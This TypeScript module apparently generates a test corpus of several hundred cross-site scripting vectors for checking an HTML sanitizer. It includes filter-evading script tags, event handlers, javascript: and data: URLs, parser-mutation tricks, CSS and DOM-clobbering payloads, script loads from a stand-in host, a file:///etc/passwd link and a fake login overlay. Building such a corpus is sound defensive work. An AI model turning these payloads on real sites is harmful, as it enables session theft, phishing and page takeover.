/** A text that would run a script, ask another site or change the page if it were shown as it is. */
export interface XssVector {
  /** Its place in the corpus; what it runs is `ran(id)`. */
  id: number;
  kind: string;
  html: string;
}

/** Requests for this host are made by vectors alone. */
export const CANARY_HOST = 'canary.example';
const CANARY = `//${CANARY_HOST}/x`;

/** @param id of the vector, for what it runs */
type Template = (id: number) => string;

const entity = (one: string, code: (point: number) => string) =>
  [...one].map((sign) => `&#${code(sign.codePointAt(0)!)}`).join('');
const decimal = (text: string) => entity(text, (point) => `${point};`);
const hex = (text: string) => entity(text, (point) => `x${point.toString(16)};`);
const padded = (text: string) => entity(text, (point) => String(point).padStart(7, '0'));
const percent = (text: string) =>
  [...text].map((sign) => `%${sign.codePointAt(0)!.toString(16).padStart(2, '0')}`).join('');

const ran: Template = (id) => `ran(${id})`;

/** Ways to call it that filters of words overlook. */
const SPELLINGS: Template[] = [
  ran,
  (id) => `r\\u0061n(${id})`,
  (id) => `[${id}].find(ran)`,
  (id) => `top["ran"](${id})`,
  (id) => `ran\`${id}\``,
  (id) => `(0,eval)("ran(${id})")`,
  (id) => `Function("ran(${id})")()`,
];

/** How a value stands behind its name. */
const QUOTED: ((value: string) => string)[] = [
  (value) => `'${value}'`,
  (value) => decimal(value),
  (value) => `"${hex(value)}"`,
  (value) => `\n"${padded(value)}"`,
  (value) => `'\t${value}\r\n'`,
  (value) => `'javascript:${value}'`,
  (value) => value,
];

/** What parts a tag's name from its attribute. */
const GAPS = [' ', '/', '\t', '\n', '\f', '\r', ' / ', ' x="" ', '//', ' x=">" '];

const each = <T>(all: readonly T[], turn: number): T => all[turn % all.length]!;

/** Takes turns with gaps, quotes and spellings, whose numbers have no common divisor: every pair of them meets. */
const handler =
  (tag: string, on: string, turn: number, after = ''): Template =>
  (id) =>
    `<${tag}${each(GAPS, turn)}${on}=${each(QUOTED, turn)(each(SPELLINGS, Math.floor(turn / 7))(id))}>${after}`;

/** Tags that fire by themselves, with what follows them. */
const FIRING: [tag: string, on: string, after?: string][] = [
  ['img src=x', 'onerror'],
  ['IMG SRC=x', 'OnErRoR'],
  ['img src=x srcset=x', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['svg><image href=x', 'onerror'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x', 'onbegin'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['video src=x', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['details open', 'ontoggle', '<summary>x</summary>x'],
  ['input autofocus', 'onfocus'],
  ['input type=image src=x', 'onerror'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['p contenteditable autofocus', 'onfocus'],
  ['a href=# autofocus', 'onfocus'],
  ['x-y tabindex=1 autofocus', 'onfocus'],
  ['iframe', 'onload'],
  ['frameset', 'onload'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['script src=x', 'onerror', '</script>'],
  ['style', 'onload', 'p{}</style>'],
  ['marquee', 'onstart', 'x'],
  ['dialog open', 'onfocusin', '<button autofocus>x'],
];

const ALLOWED = ['p', 'a', 'h2', 'li', 'blockquote', 'strong', 'img', 'figure', 'td', 'code', 'span', 'div'];
const TOUCHED = [
  'onclick',
  'onmouseover',
  'onpointerenter',
  'onfocus tabindex=0 onblur',
  'onkeydown',
  'onanimationstart',
  'onbeforetoggle',
  'oncontextmenu',
  'onbeforematch',
  'oncontentvisibilityautostatechange',
];

const SCRIPTS: Template[] = [
  (id) => `<script>${ran(id)}</script>`,
  (id) => `<ScRiPt>${ran(id)}</sCrIpT>`,
  (id) => `<script\n>${ran(id)}</script\t>`,
  (id) => `<script/x>${ran(id)}</script/x>`,
  (id) => `<script type=module>${ran(id)}</script>`,
  (id) => `<script x=">" y='>'>${ran(id)}</script>`,
  (id) => `<script>${ran(id)}`,
  (id) => `<script>//<!--\n${ran(id)}//--></script>`,
  (id) => `<scr\0ipt>${ran(id)}</scr\0ipt>`,
  (id) => `<\0script>${ran(id)}</script>`,
  (id) => `<scr<script>ipt>${ran(id)}</scr</script>ipt>`,
  (id) => `<scr<!-- -->ipt>${ran(id)}</script>`,
  (id) => `<<script>${ran(id)}//<</script>`,
  (id) => `</script><script>${ran(id)}</script>`,
  (id) => `<p <script>${ran(id)}</script>`,
  (id) => `<p title="<script>${ran(id)}</script>`,
  (id) => `&lt;script&gt;${ran(id)}&lt;/script&gt;`,
  (id) => `&amp;lt;script&amp;gt;${ran(id)}&amp;lt;/script&amp;gt;`,
  (id) => `${decimal('<script>')}${ran(id)}${decimal('</script>')}`,
  (id) => `${percent('<script>')}${ran(id)}${percent('</script>')}`,
  (id) => `\\u003cscript\\u003e${ran(id)}\\u003c/script\\u003e`,
  (id) => `＜script＞${ran(id)}＜/script＞`,
  (id) => `¼script¾${ran(id)}¼/script¾`,
  (id) => `+ADw-script+AD4-${ran(id)}+ADw-/script+AD4-`,
  (id) => `<script src=${CANARY}${id}></script>`,
  (id) => `<script src=\\\\${CANARY_HOST}\\${id}></script>`,
  (id) => `<script src="data:text/javascript,${ran(id)}"></script>`,
  (id) => `<script src=${CANARY}${id}?`,
  (id) => `<script\u00a0>${ran(id)}</script>`,
  (id) => `<script async defer crossorigin=x src=https:${CANARY}${id}></script>`,
  (id) => `<svg><script>${ran(id)}</script></svg>`,
  (id) => `<svg><script>${decimal(ran(id))}</script></svg>`,
  (id) => `<svg><script xlink:href="data:,${ran(id)}" /></svg>`,
  (id) => `<svg><script href=${CANARY}${id} /></svg>`,
  (id) => `<noscript><script>${ran(id)}</script></noscript>`,
];

/** Addresses that run something, or lead a reader elsewhere. */
const ADDRESSES: Template[] = [
  (id) => `javascript:${ran(id)}`,
  (id) => `JaVaScRiPt:${ran(id)}`,
  (id) => ` \n javascript:${ran(id)}`,
  (id) => `\u0001javascript:${ran(id)}`,
  (id) => `\u00a0javascript:${ran(id)}`,
  (id) => `java\tscript:${ran(id)}`,
  (id) => `java\nscript:${ran(id)}`,
  (id) => `java\0script:${ran(id)}`,
  (id) => `java&#9;script&colon;${ran(id)}`,
  (id) => `java&Tab;script&#58;${ran(id)}`,
  (id) => `java&NewLine;script&#x3a${ran(id)}`,
  (id) => decimal(`javascript:${ran(id)}`),
  (id) => hex(`javascript:${ran(id)}`),
  (id) => padded(`javascript:${ran(id)}`),
  (id) => `javascript:${percent(ran(id))}`,
  (id) => `javascript://x.example/%0a${ran(id)}`,
  (id) => `javascript:/*--></title></style></textarea></script>*/${ran(id)}`,
  (id) => `vbscript:${ran(id)}`,
  (id) => `livescript:${ran(id)}`,
  (id) => `feed:javascript:${ran(id)}`,
  (id) => `view-source:javascript:${ran(id)}`,
  (id) => `data:text/html,<script>${ran(id)}</script>`,
  (id) => `data:text/html;base64,${btoa(`<script>${ran(id)}</script>`)}`,
  (id) => `DATA:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${ran(id)}'/>`,
  () => 'blob:https://x.example/1',
  () => 'filesystem:https://x.example/1',
  () => 'file:///etc/passwd',
  (id) => `${CANARY}${id}`,
  (id) => `\\\\${CANARY_HOST}\\${id}`,
  (id) => `/\\${CANARY_HOST}/${id}`,
  (id) => `/\t/${CANARY_HOST}/${id}`,
];

/** Places of addresses; '?' is the address. */
const ADDRESSED = [
  '<area href="?">',
  '<iframe src="?"></iframe>',
  '<frame src="?">',
  '<embed src="?">',
  '<object data="?"></object>',
  '<form action="?"><button>x</button></form>',
  '<form><button formaction="?">x</button></form>',
  '<form><input type=submit formaction="?"></form>',
  '<input type=image src="?">',
  '<video poster="?"></video>',
  '<video src="?"></video>',
  '<audio src="?"></audio>',
  '<img srcset="? 1x">',
  '<picture><source srcset="?"><img></picture>',
  '<img src=x longdesc="?" dynsrc="?" lowsrc="?">',
  '<svg><a href="?"><text>x</text></a></svg>',
  '<svg><a xlink:href="?"><text>x</text></a></svg>',
  '<svg><use href="?#x"/></svg>',
  '<svg><image href="?"/></svg>',
  '<math href="?">x</math>',
  '<math><mi xlink:href="?">x</mi></math>',
  '<link rel=stylesheet href="?">',
  '<link rel=import href="?">',
  '<base href="?">',
  '<body background="?">',
  '<table background="?"><tr><td>x</td></tr></table>',
  '<blockquote cite="?">x</blockquote>',
  '<a href=/ ping="?">x</a>',
  '<meta http-equiv=refresh content="0;url=?">',
  '<meta http-equiv=refresh content="0; URL=\'?\'">',
  '<isindex action="?">',
];

/** A parser of another opinion sees a tag where this one saw a text. */
const MUTATIONS: Template[] = [
  (id) => `<svg><style><img src=x onerror=${ran(id)}></style></svg>`,
  (id) => `<math><style><img src=x onerror=${ran(id)}></style></math>`,
  (id) => `<svg></p><style><a title="</style><img src=x onerror=${ran(id)}>">`,
  (id) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${ran(id)}&gt;">`,
  (id) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${ran(id)}></style></mglyph></form>`,
  (id) =>
    `<math><mtext><mglyph><svg><mtext><textarea><path title="</textarea><img src=x onerror=${ran(id)}>">`,
  (id) =>
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${ran(id)}></style></annotation-xml></math>`,
  (id) =>
    `<svg><foreignObject><iframe srcdoc="<script>parent.${ran(id)}</script>"></iframe></foreignObject></svg>`,
  (id) => `<svg><desc><style></desc><img src=x onerror=${ran(id)}></style>`,
  (id) => `<svg><title><style></title><img src=x onerror=${ran(id)}></style>`,
  (id) => `<svg><![CDATA[><img src=x onerror=${ran(id)}>]]></svg>`,
  (id) => `<![CDATA[<img src=x onerror=${ran(id)}>]]>`,
  (id) => `<?xml version="1.0"?><img src=x onerror=${ran(id)}>`,
  (id) => `<?x ><img src=x onerror=${ran(id)}>`,
  (id) => `<!x ><img src=x onerror=${ran(id)}>`,
  (id) => `<!doctype html [<!ENTITY x "<img src=x onerror=${ran(id)}>">]>&x;`,
  (id) => `<!--><img src=x onerror=${ran(id)}>-->`,
  (id) => `<!---><img src=x onerror=${ran(id)}>-->`,
  (id) => `<!--x--!><img src=x onerror=${ran(id)}>-->`,
  (id) => `<!--<!--><img src=x onerror=${ran(id)}>`,
  (id) => `<noscript><p title="</noscript><img src=x onerror=${ran(id)}>">`,
  (id) => `<noembed><p title="</noembed><img src=x onerror=${ran(id)}>"></noembed>`,
  (id) => `<noframes><p title="</noframes><img src=x onerror=${ran(id)}>"></noframes>`,
  (id) => `<xmp><p title="</xmp><img src=x onerror=${ran(id)}>"></xmp>`,
  (id) => `<textarea><p title="</textarea><img src=x onerror=${ran(id)}>"></textarea>`,
  (id) => `<title><p title="</title><img src=x onerror=${ran(id)}>"></title>`,
  (id) => `<template><p title="</template><img src=x onerror=${ran(id)}>"></template>`,
  (id) => `<iframe><p title="</iframe><img src=x onerror=${ran(id)}>"></iframe>`,
  (id) => `<plaintext><img src=x onerror=${ran(id)}>`,
  (id) => `<select><option><style></option></select><img src=x onerror=${ran(id)}></style>`,
  (id) => `<table><caption><svg><style></table><img src=x onerror=${ran(id)}></style>`,
  (id) => `<table><img src=x onerror=${ran(id)}><tr><td>x</td></tr></table>`,
  (id) => `<p><table><p title="</table><img src=x onerror=${ran(id)}>">`,
  (id) => `<a><table><a><svg onload=${ran(id)}></a></table></a>`,
  (id) =>
    `${'<div>'.repeat(520)}<table><caption><svg><style><a title="</style><img src=x onerror=${ran(id)}>">`,
  (id) => `<template><img src=x onerror=${ran(id)}></template>`,
  (id) => `<template shadowrootmode=open><img src=x onerror=${ran(id)}></template>`,
  (id) =>
    `<svg><animate href=#x${id} attributeName=href values=javascript:${ran(id)} /><a id=x${id}><text>x</text></a></svg>`,
  (id) => `<svg><a id=y${id}><set attributeName=href to=javascript:${ran(id)} /><text>x</text></a></svg>`,
  (id) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${ran(id)}'/></svg>#x"/></svg>`,
  (id) => `<iframe srcdoc="<img src=x onerror=parent.${ran(id)}>"></iframe>`,
  (id) => `<iframe srcdoc="${decimal(`<script>parent.${ran(id)}</script>`)}"></iframe>`,
  (id) =>
    `<iframe srcdoc='&lt;script&gt;parent.${ran(id)}&lt;/script&gt;' sandbox="allow-scripts allow-same-origin">`,
  (id) => `<object type=text/html data="data:text/html,<script>parent.${ran(id)}</script>"></object>`,
  (id) =>
    `<embed type=image/svg+xml src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>${ran(id)}</script></svg>">`,
  (id) => `<applet code=${CANARY}${id}></applet>`,
  (id) => `<layer src=${CANARY}${id}></layer>`,
  (id) => `<xml><i><b>&lt;img src=x onerror=${ran(id)}&gt;</b></i></xml>`,
];

const STYLES: Template[] = [
  (id) => `<style>@import '${CANARY}${id}.css';</style>`,
  (id) => `<style>body{background:url(${CANARY}${id})}</style>`,
  (id) => `<style>p{background:url(javascript:${ran(id)})}</style>`,
  () => '<style>main{display:none}</style>',
  (id) => `<p style="background:url(${CANARY}${id})">x</p>`,
  (id) => `<p style="background:url('javascript:${ran(id)}')">x</p>`,
  (id) => `<p style="width:expression(${ran(id)})">x</p>`,
  (id) => `<p style="-moz-binding:url(${CANARY}${id})">x</p>`,
  (id) => `<p style="behavior:url(${CANARY}${id})">x</p>`,
  () => '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Log in again</div>',
  (id) =>
    `<style>@keyframes k${id}{}</style><p style="animation:k${id} 1s" onanimationstart="${ran(id)}">x</p>`,
  (id) => `<link rel=stylesheet href=${CANARY}${id}.css>`,
  (id) => `<link rel=preload as=script href=${CANARY}${id}>`,
  (id) => `<link rel=manifest href=${CANARY}${id}>`,
  (id) => `<meta http-equiv=Link content="<${CANARY}${id}>;rel=stylesheet">`,
  () => '<meta http-equiv=Set-Cookie content="lang=xx">',
  () => '<meta name=referrer content=unsafe-url>',
  () => '<font color=red size=7><center><marquee>x</marquee></center></font>',
];

/** An editor's text that ends what it stands in. */
const BREAKS = [
  '</title>',
  '</textarea>',
  '</noscript>',
  '</template>',
  '</style>',
  '</script>',
  '</div></div></article></section></main>',
  '</p></summary></details>',
  '</select></option>',
  '</body></html>',
  '</svg></math>',
  '-->',
  '--!>',
  ']]>',
  '">',
  "'>",
  '`>',
  '\\">',
  '"/>',
  '*/}',
  '\u2028</script>',
];
const BREAKING: Template[] = [
  (id) => `<img src=x onerror=${ran(id)}>`,
  (id) => `<svg/onload=${ran(id)}>`,
  (id) => `<script>${ran(id)}</script>`,
];

/** Attributes of allowed tags that a quote could end. */
const CUT: Template[] = ['"', "'", '`', '&quot;', '&#39;', '\\"', '%22', '\u2028"'].flatMap((quote) => [
  (id) => `<img src="/x.png${quote} onerror=${quote}${ran(id)}" alt="x">`,
  (id) =>
    `<a href="/${quote} onmouseover=${quote}${ran(id)}" title='${quote} autofocus onfocus=${ran(id)} x=${quote}'>x</a>`,
  (id) => `<p lang="${quote} onclick=${quote}${ran(id)}">x</p>`,
]);

/** Names that stand before what the page's own scripts look for. */
const CLOBBERING: Template[] = [
  ...['page-data', 'root', 'contents', 'part-1', 'cart', '__proto__', 'constructor'].flatMap((name) => [
    () => `<a id="${name}" href="/x">x</a>`,
    () => `<img name="${name}" src="/x.png">`,
  ]),
  ...['getElementById', 'querySelector', 'cookie', 'body', 'head', 'forms', 'currentScript', 'location'].map(
    (name) => () => `<form name="${name}"><input name="${name}"><input name="attributes"></form>`,
  ),
  () => '<a id=config></a><a id=config name=url href="//canary.example/x">x</a>',
  () => '<div class="modal toast" role="alertdialog" aria-modal="true">x</div>',
  () => '<p slot=x part=x is=x-y data-ready="true" data-leaves="1" hidden inert>x</p>',
  () => '<p tabindex=1 accesskey=a contenteditable draggable=true popover>x</p>',
  () => '<button popovertarget=root command=show-modal commandfor=root>x</button>',
];

/** Nothing in HTML; what other languages would make of them must not happen either. */
const WORDS: Template[] = [
  (id) => `[x](javascript:${ran(id)})`,
  (id) => `![x](x"onerror="${ran(id)})`,
  (id) => `<javascript:${ran(id)}>`,
  (id) => `[x]: javascript:${ran(id)}\n\n[x]`,
  (id) => `\`\`\`\n</code></pre><img src=x onerror=${ran(id)}>\n\`\`\``,
  (id) => `{{constructor.constructor('${ran(id)}')()}}`,
  (id) => `\${${ran(id)}}`,
  (id) => `<%= ${ran(id)} %>`,
  (id) => `#{${ran(id)}}`,
  (id) => `","x":"</script><script>${ran(id)}</script>`,
  (id) => `\\"}]}</script><!--<script>${ran(id)}`,
  (id) => `<!--<script>${ran(id)}`,
  (id) => `x' onerror='${ran(id)}' y='`,
  (id) => `=HYPERLINK("javascript:${ran(id)}")`,
];

const inPlaces = (places: readonly string[], addresses: readonly Template[]): Template[] =>
  places.flatMap((place) =>
    addresses.map(
      (address): Template =>
        (id) =>
          place.replaceAll('?', () => address(id)),
    ),
  );

const KINDS: Record<string, Template[]> = {
  script: SCRIPTS,
  'handler that fires by itself': FIRING.flatMap(([tag, on, after], row) =>
    [0, 1, 2].map((turn) => handler(tag, on, row * 3 + turn, after)),
  ),
  'handler of an allowed tag': ALLOWED.flatMap((tag, row) =>
    TOUCHED.map((on, turn) => handler(tag, on, row * TOUCHED.length + turn, 'x')),
  ),
  'address of a link': inPlaces(['<a href="?">x</a>'], ADDRESSES),
  'address of a picture': inPlaces(['<img src="?">'], ADDRESSES),
  'address elsewhere': ADDRESSED.flatMap((place, turn) =>
    inPlaces([place], [ADDRESSES[0]!, ADDRESSES[1 + (turn % (ADDRESSES.length - 1))]!]),
  ),
  mutation: MUTATIONS,
  style: STYLES,
  'broken context': BREAKS.flatMap((before) =>
    BREAKING.map(
      (after): Template =>
        (id) =>
          before + after(id),
    ),
  ),
  'cut attribute': CUT,
  clobbering: CLOBBERING,
  words: WORDS,
};

/** Every kind with its tags, handlers, encodings and contexts; the same each time. */
export const XSS_VECTORS: readonly XssVector[] = Object.entries(KINDS)
  .flatMap(([kind, templates]) => templates.map((template) => ({ kind, template })))
  .map(({ kind, template }, id) => ({ id, kind, html: template(id) }));

/** For fields that hold an address alone. */
export const HOSTILE_ADDRESSES: readonly string[] = ADDRESSES.map((template, id) => template(id));
